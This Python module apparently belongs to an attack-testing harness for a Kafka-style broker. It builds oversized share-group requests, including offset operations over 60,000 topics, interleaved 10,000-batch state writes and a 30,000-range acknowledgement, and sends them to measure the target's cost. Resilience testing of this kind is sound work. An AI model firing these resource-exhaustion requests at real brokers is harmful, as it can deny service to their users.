"""Requests about the offsets and states of share groups that name thousands of things."""

from __future__ import annotations

from attacks.costs import produce_error
from attacks.scene import Scene
from attacks.target import GROUPS
from attacks.wire import NONE, frame
from barnabas.cluster.errors import ClusterError
from barnabas.cluster.layout import Node
from barnabas.protocol.messages import (
    alter_share_group_offsets,
    delete_share_group_offsets,
    describe_share_group_offsets,
    initialize_share_group_state,
    write_share_group_state,
)
from barnabas.protocol.messages.metadata import MetadataRequest, MetadataRequestTopic
from barnabas.protocol.messages.share_acknowledge import (
    AcknowledgementBatch,
    AcknowledgePartition,
    AcknowledgeTopic,
    ShareAcknowledgeRequest,
)
from barnabas.protocol.messages.share_fetch import FetchPartition, FetchTopic, ShareFetchRequest
from barnabas.protocol.messages.share_group_heartbeat import ShareGroupHeartbeatRequest
from barnabas.protocol.primitives import uuid_to_string
from barnabas.protocol.records.builder import build_batch
from barnabas.protocol.schema import Message

MANY = 60_000
SHARE_PARTITIONS = 2
"""Type of keys of FindCoordinator."""
TOPIC, GROUP, MEMBER = "shared", "sharing", "attacker-member"
ACKNOWLEDGED = 2
WRITES = 4
ACCEPT = 1
LOCKS = 2_000
"""Records that a share partition has in flight at most."""


def share_group_offsets(scene: Scene) -> None:
    """Describe, alter and delete the offsets of a share group in 60,000 partitions or topics."""
    _create_topic(scene)
    node = scene.target.coordinator(GROUPS, GROUP)
    names = [f"no-topic-{number}" for number in range(MANY)]
    requests: list[tuple[Message, int]] = [
        (_describe({"no-topic": list(range(MANY))}), 1),
        (_describe({TOPIC: list(range(MANY))}), 1),
        (describe_share_group_offsets.DescribeShareGroupOffsetsRequest(groups=[_group(name, {}) for name in names]), 1),
        (
            alter_share_group_offsets.AlterShareGroupOffsetsRequest(
                group_id=GROUP,
                topics=[alter_share_group_offsets.AlterShareGroupOffsetsRequestTopic(topic_name=it) for it in names],
            ),
            0,
        ),
        (
            delete_share_group_offsets.DeleteShareGroupOffsetsRequest(
                group_id=GROUP,
                topics=[delete_share_group_offsets.DeleteShareGroupOffsetsRequestTopic(topic_name=it) for it in names],
            ),
            0,
        ),
    ]
    frames = [frame(request, version) for request, version in requests]
    scene.begin(node)
    with scene.peer() as peer:
        for data in frames:
            scene.send(peer, data)
            peer.swallow()


def share_states(scene: Scene) -> None:
    """Writes of 10,000 batches each to the state of one share partition, which interleave."""
    node = _create(scene)
    topic_id = _topic_id(scene)
    first = initialize_share_group_state.PartitionData(partition=0, state_epoch=1, start_offset=0)
    begun = initialize_share_group_state.InitializeShareGroupStateRequest(
        group_id=GROUP,
        topics=[initialize_share_group_state.InitializeStateData(topic_id=topic_id, partitions=[first])],
    )
    frames = [frame(_write(topic_id, number), 1) for number in range(WRITES)]
    with scene.peer(node) as peer:
        answer = peer.call(begun, 0)
        if answer.results[0].partitions[0].error_code != NONE:
            scene.report(f"the state is not initialized: error {answer.results[0].partitions[0].error_code}")
        scene.begin(node)
    with scene.peer() as peer:
        for data in frames:
            scene.send(peer, data)
            peer.swallow()


def share_acknowledgements(scene: Scene) -> None:
    """ShareAcknowledge with 30,000 ranges of one record, of which 2,000 are in flight."""
    _create(scene)
    leader = scene.target.leaders(TOPIC)[0]
    node = scene.target.coordinator(GROUPS, GROUP)
    topic_id = _topic_id(scene)
    beat = ShareGroupHeartbeatRequest(group_id=GROUP, member_id=MEMBER, subscribed_topic_names=[TOPIC])
    asked = FetchTopic(topic_id=topic_id, partitions=[FetchPartition(partition_index=0)])
    with scene.peer(node) as member, scene.peer(leader) as peer:
        member.call(beat, 1)
        fetch = ShareFetchRequest(group_id=GROUP, member_id=MEMBER, max_wait_ms=5_000, min_bytes=1, topics=[asked])
        fetch.max_records = fetch.batch_size = LOCKS
        peer.call(fetch, 1)
        error = produce_error(peer, TOPIC, build_batch([(0, 0, None, b"", ())] * LOCKS))
        if error != NONE:
            scene.report(f"records cannot be produced: error {error}")
        fetch.share_session_epoch, fetch.topics = 1, []
        got = peer.call(fetch, 1)
        if not any(data.acquired_records for topic in got.responses for data in topic.partitions):
            scene.report("no record was acquired")
        partition = AcknowledgePartition(partition_index=0, acknowledgement_batches=[])
        for offset in range(30_000):
            accepted = AcknowledgementBatch(first_offset=offset, last_offset=offset, acknowledge_types=[ACCEPT])
            partition.acknowledgement_batches.append(accepted)
        topics = [AcknowledgeTopic(topic_id=topic_id, partitions=[partition])]
        request = ShareAcknowledgeRequest(group_id=GROUP, member_id=MEMBER, share_session_epoch=2, topics=topics)
        data = frame(request, 1)
        scene.begin(leader)
        scene.send(peer, data)
        peer.swallow()


def _create_topic(scene: Scene) -> None:
    if TOPIC not in scene.target.topics:
        scene.target.create_topic(TOPIC)


def _create(scene: Scene) -> Node:
    """The coordinator of the states of the topic's only partition."""
    _create_topic(scene)
    key = f"{GROUP}:{uuid_to_string(_topic_id(scene))}:0"
    for _ in range(3):
        try:
            return scene.target.coordinator(SHARE_PARTITIONS, key)
        except ClusterError:
            continue  # the topic of the states has many partitions, and a busy machine takes its time
    raise ClusterError("share groups have no coordinator")


def _describe(topics: dict[str, list[int]]) -> describe_share_group_offsets.DescribeShareGroupOffsetsRequest:
    return describe_share_group_offsets.DescribeShareGroupOffsetsRequest(groups=[_group(GROUP, topics)])


def _group(
    group_id: str, topics: dict[str, list[int]]
) -> describe_share_group_offsets.DescribeShareGroupOffsetsRequestGroup:
    wanted = [
        describe_share_group_offsets.DescribeShareGroupOffsetsRequestTopic(topic_name=name, partitions=indexes)
        for name, indexes in topics.items()
    ]
    return describe_share_group_offsets.DescribeShareGroupOffsetsRequestGroup(group_id=group_id, topics=wanted)


def _write(topic_id: bytes, number: int) -> write_share_group_state.WriteShareGroupStateRequest:
    """Every batch lies between those of the other writes; the last ones come first."""
    batches = [
        write_share_group_state.StateBatch(
            first_offset=10 * place + 2 * number,
            last_offset=10 * place + 2 * number,
            delivery_state=ACKNOWLEDGED,
            delivery_count=1,
        )
        for place in reversed(range(10_000))
    ]
    data = write_share_group_state.PartitionData(partition=0, state_epoch=1, leader_epoch=0, state_batches=batches)
    topics = [write_share_group_state.WriteStateData(topic_id=topic_id, partitions=[data])]
    return write_share_group_state.WriteShareGroupStateRequest(group_id=GROUP, topics=topics)


def _topic_id(scene: Scene) -> bytes:
    with scene.peer() as peer:
        request = MetadataRequest(topics=[MetadataRequestTopic(name=TOPIC)], allow_auto_topic_creation=False)
        topic_id: bytes = peer.call(request, 12).topics[0].topic_id
        return topic_id
